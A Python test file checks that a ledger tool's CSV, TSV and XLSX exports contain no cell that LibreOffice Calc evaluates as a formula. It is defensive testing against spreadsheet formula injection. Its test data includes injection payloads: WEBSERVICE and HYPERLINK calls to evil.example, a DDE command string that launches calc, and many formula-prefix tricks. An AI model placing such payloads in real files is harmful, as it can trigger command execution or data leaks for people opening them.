"""A real spreadsheet opens what is written for other programs, and finds no formula in any cell of it."""

import re
import shutil
import subprocess
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
import tomli_w

from tests.support.in_process import run_here
from tests.support.lanes import Lane

pytestmark = pytest.mark.slow

OFFICE = shutil.which("soffice")
RUN = [
    "1+1",
    'HYPERLINK("https://evil.example","x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    "A1;2",
]
SIGNS = [*"=+-@＝＋－＠", "\t=", "\r=", "\n=", " =", '"=', "'=", "\u00a0=", "\ufeff=", "\u200b="]
FORMULAS = [sign + run for sign in [*SIGNS, "a;=", "a,=", "a\t=", "a\n=", "a\r\n="] for run in RUN]
TEXTS = (
    "unit",
    "owner",
    "pledger",
    "recipient",
    "description",
    "quote",
    "note",
    "means_of_verification",
    "measured_by",
)
WRITTEN = {
    "list.csv": ["list", "--format", "csv"],
    "log.csv": ["log", "--format", "csv"],
    "agenda.csv": ["agenda", "--format", "csv"],
    "figures.csv": ["export"],
    "commitments.csv": ["export", "--table", "commitments"],
    "updates.csv": ["export", "--table", "updates"],
    "list.tsv": ["list", "--format", "tsv"],
    "figures.tsv": ["export", "--format", "tsv"],
    "commitments.tsv": ["export", "--table", "commitments", "--format", "tsv"],
    "updates.tsv": ["export", "--table", "updates", "--format", "tsv"],
}
COMMA, SEMICOLON, TAB = 44, 59, 9


def ledger() -> str:
    """A ledger with a formula in every text of each of its commitments."""
    commitments = {}
    for number, formula in enumerate(FORMULAS):
        evidence = {"source": [formula], "quote": formula, "publisher": formula, "note": formula, "archive": [formula]}
        update = {"id": f"u{number}", "date": date(2024, 1, 1), "total": 1, **evidence}
        plain = {"title": formula, "kind": "total", "target": 5, "source": [formula], "tags": [formula]}
        commitments[f"c{number}"] = {**plain, **dict.fromkeys(TEXTS, formula), "updates": [update]}
    return tomli_w.dumps({"ledger": {"title": FORMULAS[0]}, "commitments": commitments})


def formulas(paths: list[Path], folder: Path, delimiter: int | None) -> dict[str, list[str]]:
    """What LibreOffice takes for a formula in each of some files, of which it evaluates all."""
    assert OFFICE is not None
    out = folder / str(delimiter)
    options = [f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--convert-to", "fods"]
    if delimiter is not None:
        options.append(f"--infilter=CSV:{delimiter},34,76,1,,0,false,true,false,false,false,-1")
    subprocess.run([OFFICE, *options, "--outdir", str(out), *map(str, paths)], check=True, capture_output=True)
    opened = {path.name: (out / path.with_suffix(".fods").name).read_text("utf-8") for path in paths}
    return {name: found for name, text in opened.items() if (found := re.findall('table:formula="([^"]*)"', text))}


def test_a_spreadsheet_finds_no_formula_whatever_it_takes_for_the_delimiter(
    need: Callable[[object, str], None], tmp_path: Path, lane: Lane
) -> None:
    need(OFFICE, "LibreOffice Calc")
    (tmp_path / "commitments.toml").write_text(ledger(), "utf-8")
    written: dict[str, list[Path]] = {"csv": [], "tsv": []}
    for name, words in WRITTEN.items():
        ended = run_here(words, tmp_path)
        assert (ended.status, ended.stderr) == (0, "")
        path = tmp_path / name.replace(".", f" {name[-3:]}.")
        path.write_text(ended.stdout, "utf-8")
        written[path.suffix[1:]].append(path)
    control = tmp_path / "control.csv"
    control.write_text("a\n=1+1\n")
    every = [(form, delimiter) for form in written for delimiter in (COMMA, SEMICOLON, TAB)]
    for form, delimiter in every if lane is Lane.LONG else lane.some([("csv", TAB), ("tsv", COMMA)], 2):
        found = formulas([*written[form], control], tmp_path / form, delimiter)
        assert found == {"control.csv": ["of:=1+1"]}, (form, delimiter)
    if lane < Lane.FULL:
        return  # a real spreadsheet opens a workbook in each run, below tests/actions/importing
    book = tmp_path / "book.xlsx"
    assert run_here(["export", "--format", "xlsx", "-o", book.name], tmp_path).status == 0
    assert formulas([book], tmp_path / "book", None) == {}
